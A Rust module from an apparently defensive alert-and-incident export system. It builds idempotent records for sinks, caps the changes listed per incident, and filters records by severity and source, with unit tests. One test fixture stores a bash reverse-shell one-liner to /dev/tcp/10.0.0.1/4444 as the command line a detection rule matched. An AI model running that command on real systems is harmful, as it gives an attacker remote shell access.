//! What a sink is offered: an alert as stored, or what changed in an incident,
//! built from one read of the store ([`ExportBatch`]); and the sink's filter.
//! Pure: no IO, no clock.
//!
//! Every record has an id that stays the same however often it is delivered (the
//! receiver's idempotency key): `alert-<alert id>` for an alert, and for an
//! incident change `incident-<incident id>-<link>-<activity>`, the positions of
//! the newest link and activity entry it reports.

use ward_protocol::Severity;

use crate::store::{AlertView, ExportBatch, IncidentSummary};

/// An alert as stored, with its device's hostname.
#[derive(Debug, Clone)]
pub struct AlertRecord {
    pub id: String,
    pub alert: AlertView,
    pub hostname: Option<String>,
}

/// One change of an incident: an alert placed into it, or an activity entry
/// (analyst change, merge, severity raised...).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Change {
    /// `created` (the alert opened it), `alert_added`, or the activity kind
    /// (`status`, `severity`, `assignee`, `merged`, `redirected`, `comment`...).
    pub kind: String,
    pub at_ms: i64,
    pub actor: String,
    pub detail: String,
    /// The alert, for `created` and `alert_added`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub alert_id: Option<String>,
}

/// What changed in one incident in one read, with the incident as it is now.
#[derive(Debug, Clone)]
pub struct IncidentRecord {
    pub id: String,
    pub incident: IncidentSummary,
    /// The newest [`MAX_CHANGES`] changes, oldest first.
    pub changes: Vec<Change>,
    /// Changes left out (older ones beyond [`MAX_CHANGES`]; the incident's counts
    /// say where it stands).
    pub omitted_changes: usize,
}

/// Changes one incident record lists at most, so a record stays small (an incident
/// that thousands of alerts join in one read would otherwise list each).
pub const MAX_CHANGES: usize = 100;

impl IncidentRecord {
    /// The incident was opened by one of these changes.
    pub fn opened(&self) -> bool {
        self.changes.iter().any(|c| c.kind == "created")
    }
    /// The most recent change's time (the record's event time).
    pub fn at_ms(&self) -> i64 {
        self.changes
            .iter()
            .map(|c| c.at_ms)
            .max()
            .unwrap_or(self.incident.updated_at_ms)
    }
}

#[derive(Debug, Clone)]
pub enum Record {
    Alert(AlertRecord),
    Incident(IncidentRecord),
}

impl Record {
    pub fn id(&self) -> &str {
        match self {
            Record::Alert(a) => &a.id,
            Record::Incident(i) => &i.id,
        }
    }
    pub fn severity(&self) -> Severity {
        let s = match self {
            Record::Alert(a) => a.alert.severity,
            Record::Incident(i) => i.incident.severity,
        };
        Severity::parse(s).unwrap_or(Severity::Informational)
    }
}

/// The records of one read: its alerts in store order, then one record per
/// incident that changed, in the order of its first change.
pub fn records(batch: ExportBatch) -> Vec<Record> {
    let mut out: Vec<Record> = batch
        .alerts
        .into_iter()
        .map(|a| {
            Record::Alert(AlertRecord {
                id: format!("alert-{}", a.alert.id),
                alert: a.alert,
                hostname: a.hostname,
            })
        })
        .collect();
    // (incident id, newest link, newest activity, changes), in order of first change.
    let mut changed: Vec<(String, i64, i64, Vec<Change>)> = Vec::new();
    let slot = |id: &str, changed: &mut Vec<(String, i64, i64, Vec<Change>)>| -> usize {
        match changed.iter().position(|c| c.0 == id) {
            Some(i) => i,
            None => {
                changed.push((id.to_string(), 0, 0, Vec::new()));
                changed.len() - 1
            }
        }
    };
    for l in batch.links {
        let i = slot(&l.incident_id, &mut changed);
        changed[i].1 = changed[i].1.max(l.alert_rowid);
        changed[i].3.push(Change {
            kind: if l.opened { "created" } else { "alert_added" }.into(),
            at_ms: l.at_ms,
            actor: "correlation".into(),
            detail: l.reason,
            alert_id: Some(l.alert_id),
        });
    }
    for a in batch.activity {
        let i = slot(&a.incident_id, &mut changed);
        changed[i].2 = changed[i].2.max(a.id);
        changed[i].3.push(Change {
            kind: a.kind,
            at_ms: a.at_ms,
            actor: a.actor,
            detail: a.detail,
            alert_id: None,
        });
    }
    for (id, link, activity, mut changes) in changed {
        let Some(incident) = batch.incidents.iter().find(|s| s.id == id) else {
            continue;
        };
        // Links and entries each come in their own order; a stable sort by time
        // keeps that order for changes made at the same moment.
        changes.sort_by_key(|c| c.at_ms);
        let omitted_changes = changes.len().saturating_sub(MAX_CHANGES);
        // Keep the one that opened it (it says what the incident is) and the newest.
        let opened = changes
            .iter()
            .position(|c| c.kind == "created")
            .filter(|i| *i < omitted_changes);
        let mut kept: Vec<Change> = opened.map(|i| changes[i].clone()).into_iter().collect();
        kept.extend(changes.drain(omitted_changes..));
        let omitted_changes = omitted_changes - usize::from(opened.is_some()).min(omitted_changes);
        kept.truncate(MAX_CHANGES + 1);
        out.push(Record::Incident(IncidentRecord {
            id: format!("incident-{id}-{link}-{activity}"),
            incident: incident.clone(),
            changes: kept,
            omitted_changes,
        }));
    }
    out
}

/// Which records a sink takes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Filter {
    pub alerts: bool,
    pub incidents: bool,
    pub min_severity: Option<Severity>,
    /// Empty: all.
    pub sources: Vec<String>,
}

impl Filter {
    pub fn passes(&self, r: &Record) -> bool {
        if self.min_severity.is_some_and(|min| r.severity() < min) {
            return false;
        }
        match r {
            Record::Alert(a) => self.alerts && (self.sources.is_empty() || self.sources.contains(&a.alert.source)),
            Record::Incident(i) => {
                self.incidents
                    && (self.sources.is_empty() || i.incident.sources.iter().any(|s| self.sources.contains(s)))
            }
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
pub(crate) mod tests {
    use super::*;
    use crate::store::{ExportActivity, ExportAlert, ExportLink, ExportMarks, RuleView};
    use serde_json::json;

    pub fn alert(n: i64, severity: &'static str, source: &str) -> AlertView {
        AlertView {
            id: format!("01ALERT{n:04}"),
            device_id: Some("01DEVICE".into()),
            seq: n,
            observed_at_ms: 1_700_000_000_000 + n,
            last_observed_at_ms: 1_700_000_000_000 + n,
            received_at_ms: 1_700_000_001_000 + n,
            rule: RuleView {
                id: "rule-1".into(),
                title: "Reverse shell | via \\bash=tcp".into(),
                author: "Ward".into(),
                techniques: json!(["T1059.004"]),
                tactics: json!(["TA0002"]),
            },
            severity,
            source: source.into(),
            count: 1,
            folded_alerts: 0,
            entities: json!([{"kind": "user", "name": "alice"}]),
            matched: json!({"process.cmdline": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}),
            rowid: n,
        }
    }

    pub fn incident(id: &str, severity: &'static str, sources: &[&str]) -> IncidentSummary {
        IncidentSummary {
            id: id.into(),
            title: "Reverse shell on host-1".into(),
            severity,
            status: "active".into(),
            redirected_to: None,
            assignee: None,
            classification: None,
            determination: None,
            tags: vec![],
            sources: sources.iter().map(|s| s.to_string()).collect(),
            tactics: vec![],
            first_activity_ms: 1_700_000_000_000,
            last_activity_ms: 1_700_000_000_500,
            created_at_ms: 1_700_000_002_000,
            updated_at_ms: 1_700_000_002_000,
            alert_count: 2,
            device_count: 1,
            user_count: 1,
            mailbox_count: 0,
            severity_num: 0,
        }
    }

    fn link(rowid: i64, incident: &str, opened: bool, at_ms: i64) -> ExportLink {
        ExportLink {
            alert_rowid: rowid,
            alert_id: format!("01ALERT{rowid:04}"),
            incident_id: incident.into(),
            reason: "same device".into(),
            at_ms,
            opened,
        }
    }

    #[test]
    fn a_read_gives_its_alerts_then_one_record_per_changed_incident() {
        let batch = ExportBatch {
            alerts: vec![
                ExportAlert {
                    alert: alert(1, "high", "agent"),
                    hostname: Some("host-1".into()),
                },
                ExportAlert {
                    alert: alert(2, "low", "agent"),
                    hostname: None,
                },
            ],
            links: vec![
                link(1, "inc-b", true, 10),
                link(2, "inc-a", false, 11),
                link(3, "inc-b", false, 12),
            ],
            activity: vec![ExportActivity {
                id: 7,
                incident_id: "inc-b".into(),
                at_ms: 12,
                actor: "alice".into(),
                kind: "status".into(),
                detail: "status active → in_progress".into(),
            }],
            incidents: vec![
                incident("inc-a", "low", &["agent"]),
                incident("inc-b", "high", &["agent"]),
            ],
            marks: ExportMarks::default(),
        };
        let out = records(batch);
        let ids: Vec<&str> = out.iter().map(Record::id).collect();
        assert_eq!(
            ids,
            [
                "alert-01ALERT0001",
                "alert-01ALERT0002",
                "incident-inc-b-3-7",
                "incident-inc-a-2-0"
            ]
        );
        let Record::Incident(b) = &out[2] else { panic!() };
        let kinds: Vec<&str> = b.changes.iter().map(|c| c.kind.as_str()).collect();
        assert_eq!(kinds, ["created", "alert_added", "status"]);
        assert!(b.opened());
        assert_eq!(b.at_ms(), 12);
    }

    #[test]
    fn a_record_lists_the_opening_and_the_newest_changes() {
        let links = (1..=250).map(|n| link(n, "inc", n == 1, n)).collect();
        let batch = ExportBatch {
            links,
            incidents: vec![incident("inc", "high", &["agent"])],
            ..Default::default()
        };
        let out = records(batch);
        let Record::Incident(r) = &out[0] else { panic!() };
        assert_eq!(r.changes.len(), MAX_CHANGES + 1);
        assert_eq!(r.changes[0].kind, "created");
        assert_eq!(r.changes[1].at_ms, 151);
        assert_eq!(r.changes.last().unwrap().at_ms, 250);
        assert_eq!(r.omitted_changes, 149);
        assert!(r.opened());
    }

    #[test]
    fn changes_of_an_incident_no_longer_stored_are_left_out() {
        let batch = ExportBatch {
            links: vec![link(1, "gone", true, 1)],
            ..Default::default()
        };
        assert!(records(batch).is_empty());
    }

    #[test]
    fn filters() {
        let a = |sev, src| {
            Record::Alert(AlertRecord {
                id: "x".into(),
                alert: alert(1, sev, src),
                hostname: None,
            })
        };
        let i = |sev, srcs: &[&str]| {
            Record::Incident(IncidentRecord {
                id: "y".into(),
                incident: incident("i", sev, srcs),
                changes: vec![],
                omitted_changes: 0,
            })
        };
        let all = Filter {
            alerts: true,
            incidents: true,
            min_severity: None,
            sources: vec![],
        };
        let check = |f: &Filter, r: &Record, want: bool| assert_eq!(f.passes(r), want, "{f:?} {r:?}");
        check(&all, &a("low", "agent"), true);
        check(&all, &i("low", &[]), true);
        let high = Filter {
            min_severity: Some(Severity::High),
            ..all.clone()
        };
        check(&high, &a("medium", "agent"), false);
        check(&high, &a("high", "agent"), true);
        check(&high, &i("critical", &["agent"]), true);
        let only_alerts = Filter {
            incidents: false,
            ..all.clone()
        };
        check(&only_alerts, &i("high", &["agent"]), false);
        check(&only_alerts, &a("high", "agent"), true);
        let identity = Filter {
            sources: vec!["identity".into()],
            ..all.clone()
        };
        check(&identity, &a("high", "agent"), false);
        check(&identity, &a("high", "identity"), true);
        check(&identity, &i("high", &["agent", "identity"]), true);
        check(&identity, &i("high", &["agent"]), false);
    }
}
